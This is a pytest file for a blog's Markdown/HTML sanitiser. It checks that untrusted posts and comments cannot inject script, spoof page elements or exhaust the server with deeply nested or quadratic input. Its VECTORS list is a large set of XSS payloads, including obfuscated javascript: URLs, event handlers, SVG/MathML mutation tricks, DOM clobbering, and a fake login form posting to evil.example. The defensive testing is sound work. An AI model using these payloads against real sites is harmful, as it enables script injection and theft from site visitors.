"""What no text may do, however it is written: run code, imitate the page, or keep a worker busy."""

import gc
import re
import time
from contextlib import suppress
from html.parser import HTMLParser
from random import Random

import pytest

from blog.markup import MAX_CHARACTERS, MarkupError, bare_addresses, render
from blog.markup.balance import balanced
from blog.markup.outline import outlined
from blog.markup.policy import COMMENT, POST


def names(words: str) -> set[str]:
    return set(words.split())


# Written out here, not imported: this is what the rules are measured against.
ELEMENTS = names(
    """a abbr b bdi bdo blockquote br caption cite code dd del details dfn div dl dt em figcaption
    figure h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q rp rt ruby s samp section small span
    strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr"""
)
NOT_IN_COMMENTS = {"img", "table", "div", "span", "section", "details", "h2", "h3", "h4", "h5"}
ATTRIBUTES = names(
    """alt class colspan datetime dir height href id lang loading open rel reversed rowspan scope
    src start tabindex title type value width"""
)
VOID = {"br", "hr", "img", "wbr"}


class Inspector(HTMLParser):
    """Reads HTML back and fails at the first thing that must not be there."""

    def __init__(self, ugc: bool) -> None:
        super().__init__()
        self.ugc, self.open, self.ids = ugc, [], []

    def handle_starttag(self, tag, attrs):
        assert tag in ELEMENTS
        assert not (self.ugc and tag in NOT_IN_COMMENTS)
        assert len(dict(attrs)) == len(attrs)
        for name, value in attrs:
            self.judge(tag, name, value)
        if tag == "a":
            assert dict(attrs)["rel"] == ("noopener nofollow ugc" if self.ugc else "noopener")
        self.open += [] if tag in VOID else [tag]

    def judge(self, tag, name, value):
        assert name in ATTRIBUTES
        if name in ("href", "src"):
            # Browsers take tabs, newlines and leading control characters out of an address.
            bare = re.sub("[\x00-\x20]", "", value).lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", bare)
            allowed = {"http:", "https:"} | ({"mailto:"} if name == "href" else set())
            assert scheme is None or scheme[0] in allowed
        if name == "class":
            assert re.fullmatch(r"language-[\w+#.-]+|align-(left|center|right)", value)
        if name == "id":
            assert value.startswith("h-")
            assert not self.ugc
            self.ids.append(value)

    def handle_endtag(self, tag):
        assert self.open
        assert self.open.pop() == tag

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    handle_decl = handle_pi = unknown_decl = handle_comment


def inspect(html: str, ugc: bool = False) -> None:
    inspector = Inspector(ugc)
    inspector.feed(html)
    inspector.close()
    assert inspector.open == []
    assert len(set(inspector.ids)) == len(inspector.ids)


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "</script><script>alert(1)",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x" ONERROR = "alert(1)">',
    "<img src='x' onload='alert(1)' onmouseover=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="mailto:a@b.example">',
    '<img src="&#10;mailto:a@b.example">',
    "<img src=x:alert(1) onerror=eval(src)>",
    '<img alt="<x" title="` onerror=alert(1) `" src=a.png>',
    '<img srcset="x 1x, javascript:alert(1) 2x" src=a.png>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&#1;script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
    '<a href="javascript&NewLine;:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\x08script:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://example.com/1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example" target=_blank rel=opener ping=//evil.example>x</a>',
    "<a href=x'onclick=alert(1)//>x</a>",
    '<a href="x" id="cookie" name="forms" onclick="alert(1)">x</a> [y](#cookie)',
    '<h2 id="location">x</h2><h2 id=comments>y</h2>',
    '<h2 id="a&quot; onclick=&quot;alert(1)">x</h2>',
    '<p id="x&quot; onclick=&quot;alert(1)">x</p><a href="#x&quot; onclick=&quot;alert(1)">y</a>',
    '<p id="__proto__">x</p><a href="#__proto__">y</a>',
    '<a id="forms" name="x">x</a><a href="#forms">y</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object><embed src=x><applet code=x>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
    '<div class="masthead" style=x>x</div><code class="btn language-x y">z</code>',
    "<form action=//evil.example><input name=password><button formaction=x>Log in</button></form>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<template><img src=x onerror=alert(1)></template>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><?php <img src=x onerror=alert(1)> ?>",
    "<table><tr><td><style><a title='</style><img src=x onerror=alert(1)>'></table>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<p title="</p><script>alert(1)</script>">x</p>',
    "<p \"><img src=x onerror=alert(1)>",
    "<a b='\"<img src=x onerror=alert(1)>\"' c=\"'>x</a>",
    "<p lang='\" onclick=alert(1)' dir='rtl onclick=alert(1)'>x</p>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<time datetime='2024\" onclick=\"alert(1)'>x</time>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT&colon;alert(1))",
    "[x](java\\\nscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,hi) ![x](data:image/svg+xml,x)",
    "[x][y]\n\n[y]: javascript:alert(1) 'title'",
    "<javascript:alert(1)> <vbscript:x>",
    "![x](javascript:alert(1)) ![x](mailto:a@b.example)",
    '![x" onerror="alert(1)](a.png "y\\" onerror=\\"alert(1)")',
    '[x](https://example.com "onclick=\\"alert(1)")',
    "[x](https://example.com/\"onclick=alert(1)//)",
    "https://example.com/\"onmouseover=alert(1)// javascript:alert(1)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js\" onclick=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>` **<script>alert(1)</script>**",
    "| a | b |\n|:-:|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
    "> <div>\n> <script>alert(1)\n\n</script></div>",
    "# <img src=x onerror=alert(1)> \"onclick=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;script&amp;gt;",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
    "<ſcript>alert(1)</ſcript><a href='javaſcript:x'>x</a>",
]  # fmt: skip


@pytest.mark.parametrize("ugc", [False, True], ids=["post", "comment"])
@pytest.mark.parametrize("content_format", ["markdown", "html"])
@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_harmful_comes_through(vector, content_format, ugc):
    for source in (
        vector,
        f"Before <b>it</b> {vector} and *after*",
        f"<div>\n\n{vector}\n\n</div>",
    ):
        html = render(source, content_format, ugc=ugc).html
        inspect(html, ugc)
        assert render(html, "html", ugc=ugc).html == html


@pytest.mark.parametrize("policy", [POST, COMMENT], ids=["post", "comment"])
@pytest.mark.parametrize("vector", VECTORS)
def test_the_sanitiser_holds_without_the_steps_before_it(vector, policy):
    inspect(outlined(policy.clean(f"<b>a</b>{vector}")).html, policy is COMMENT)


@pytest.mark.parametrize(
    "element", ["script", "style", "svg", "iframe", "template", "textarea", "select"]
)
def test_what_was_never_meant_to_be_read_is_left_out_whole(element):
    hidden = f"<{element} x='>'>Hidden</{element}\n>"
    rendered = render(f"<p>a</p>{hidden}<p>b</p>{hidden.upper()}<p>c</p>", "html")
    assert rendered.html == "<p>a</p><p>b</p><p>c</p>"
    assert rendered.text == "a\nb\nc"


def test_an_element_that_never_ends_does_not_swallow_the_rest():
    assert render("<p>a</p><script><p>b</p>", "html").html == "<p>a</p><p>b</p>"
    assert render("<p>a</p><p title='b", "html").text == "a\n<p title='b"
    assert render("<p>a</p><!-- b", "html").text == "a\n<!-- b"


TAGS = sorted(
    ELEMENTS | {"h1", "script", "style", "svg", "form", "center", "font", "select", "x-y"}
)
HALVES = [
    "<",
    "</",
    "<!--",
    "-->",
    ">",
    "/>",
    '"',
    "'",
    "=",
    "&#1;",
    "&lt;",
    "\n\n",
    "> ",
    "- ",
    "|",
]
WORDS = ["text", "字", "# a\n", "**", "`", "[a](#a)", "http://a.example ", "&amp;", "[a]: b\n"]
VALUES = ["", " id=a", " href=#a", " href=javascript:x", " src=a.png onerror=x", " dir=rtl", " x='"]


def soup(chance: Random) -> str:
    """Return up to thirty pieces of what people, editors and attackers write, by chance."""
    return "".join(
        chance.choice(HALVES + WORDS)
        if chance.random() < 0.5
        else f"{chance.choice(['<', '</'])}{chance.choice(TAGS)}{chance.choice(VALUES)}>"
        for _ in range(chance.randrange(30))
    )


@pytest.mark.parametrize("ugc", [False, True], ids=["post", "comment"])
@pytest.mark.parametrize("content_format", ["markdown", "html"])
def test_whatever_the_soup_the_result_is_sound_and_stable(content_format, ugc):
    """tests/deep/test_markup_safety.py cooks many more, and finds the smallest that is bad."""
    chance = Random(f"{content_format} {ugc}")
    for _ in range(25):
        sound_and_stable(soup(chance), content_format, ugc)


def sound_and_stable(source: str, content_format: str, ugc: bool) -> None:
    rendered = render(source, content_format, ugc=ugc)
    inspect(rendered.html, ugc)
    assert render(rendered.html, "html", ugc=ugc) == rendered, source


@pytest.mark.parametrize(
    ("source", "balanced_source"),
    [
        ("<p><b>x", "<p><b>x</b></p>"),
        ("<td>a</td><tr>b", "ab"),
        ("<ruby>a<rt>b<rt>c", "<ruby>a<rt>b</rt><rt>c</rt></ruby>"),
        ("<P TITLE=a title='b' x=1 dir='\"<'>", '<p title="a" dir="&quot;&lt;"></p>'),
        ("<p <a <a", "&lt;p &lt;a &lt;a"),
    ],
)
def test_the_sanitiser_gets_nothing_to_repair(source, balanced_source):
    assert balanced(source, POST.tags) == balanced_source


def refused(source: str, content_format: str = "markdown") -> str:
    with pytest.raises(MarkupError) as caught:
        render(source, content_format)
    return caught.value.code


@pytest.mark.parametrize("content_format", ["markdown", "html"])
def test_a_text_that_is_too_long_is_refused_and_the_longest_is_not(content_format):
    assert refused("x" * (MAX_CHARACTERS + 1), content_format) == "content_too_long"
    assert len(render("x" * MAX_CHARACTERS, content_format).text) == MAX_CHARACTERS


@pytest.mark.parametrize("character", ["\x00", "\ud800", "\udfff"], ids=ascii)  # noqa: PT014
def test_characters_that_cannot_be_stored_are_refused(character):
    assert refused(f"a{character}b") == "content_not_text"


def test_control_characters_are_left_out_because_no_feed_could_hold_them():
    rendered = render("a\x08b&#8;c\ufffe\x7fd", "markdown")
    assert rendered.html == "<p>ab\N{REPLACEMENT CHARACTER}cd</p>\n"


@pytest.mark.parametrize("end", ["\r\n", "\r", "&#13;"])
def test_there_is_one_kind_of_line_ending(end):
    assert render(f"<p>a{end}b</p>", "html").html == "<p>a\nb</p>"


@pytest.mark.parametrize(
    "source",
    [
        "<div>" * 40_000,
        "<div></b>" * 2_000,
        "<table><tr><td>" * 2_000,
        "<ul><li>" * 2_000,
        "<div><table><tr><td></div>" * 2_000,
        "<section><svg></section></svg>" * 2_000 + "<div>" * 200,
    ],
)
def test_html_that_is_nested_too_deeply_is_refused(source):
    assert refused(source, "html") == "content_too_deep"
    assert refused(f"\n\n{source}") == "content_too_deep"


@pytest.mark.parametrize(
    "source",
    [
        ">" * 30 + " a",
        "- " * 30 + "a",
        "".join(f"{'  ' * level}- a\n" for level in range(30)),
        "*" * 301 + "a" + "*" * 301,
    ],
)
def test_markdown_that_is_nested_too_deeply_is_refused(source):
    assert refused(source) == "content_too_deep"


def test_what_people_do_nest_is_accepted():
    assert render("> " * 20 + "deep", "markdown").html.count("<blockquote>") == 20
    lists = "".join(f"{'  ' * level}- {level}\n" for level in range(10))
    assert render(lists, "markdown").html.count("<ul>") == 10
    assert render("<div>" * 100 + "x", "html").text == "x"


def test_what_is_left_open_a_thousand_times_is_not_deep():
    for tags in ("<p>", "<li>", "<dt>", "<h2>", "<a>", "<br>", "<b><div></b>", "</div>"):
        assert render(f"{tags}x" * 1_000, "html").text.count("x") == 1_000
    assert render("<table>" + "<tr><td>x" * 1_000, "html").html.count("<td>") == 1_000


def test_unclosed_formatting_is_not_multiplied_by_the_paragraphs_after_it():
    source = "".join(f"<b title={n}>" for n in range(50)) + "<p>x" * 10_000
    assert len(render(f"<p>{source}", "html").html) < 3 * len(source)


def test_one_long_address_is_not_multiplied_by_its_references():
    assert refused(f"[a]: /{'x' * 10_000}\n\n" + "[a] " * 200) == "content_too_long"


def test_an_address_is_looked_for_in_no_more_than_it_can_hold(monkeypatch):
    looked_at = []
    monkeypatch.setattr(bare_addresses.links, "match_at_start", looked_at.append)
    render("http://a.b/(" * 500, "markdown")
    assert len(looked_at) == 500
    assert max(map(len, looked_at)) <= bare_addresses.LONGEST


# One for each scanner; tests/deep/test_markup_safety.py tries more.
UNITS = ["<p><b>x", "<!--", "http://a.b/(", "["]


@pytest.mark.parametrize("unit", UNITS)
def test_four_times_the_text_takes_about_four_times_as_long(unit):
    takes_about_four_times_as_long(unit)


def takes_about_four_times_as_long(unit: str) -> None:
    is_html = unit.startswith("<")
    length = 25_000 if is_html else 5_000

    def seconds(characters: int) -> float:
        source = unit * (characters // len(unit))
        begin = time.process_time()
        with suppress(MarkupError):
            render(source, "html" if is_html else "markdown")
        return time.process_time() - begin

    gc.collect()
    gc.disable()  # It walks through all that other tests have left.
    try:
        short, long = (min(seconds(n) for _ in range(2)) for n in (length, 4 * length))
    finally:
        gc.enable()
    assert long < 10 * short + 0.05  # 16 times, if it were quadratic
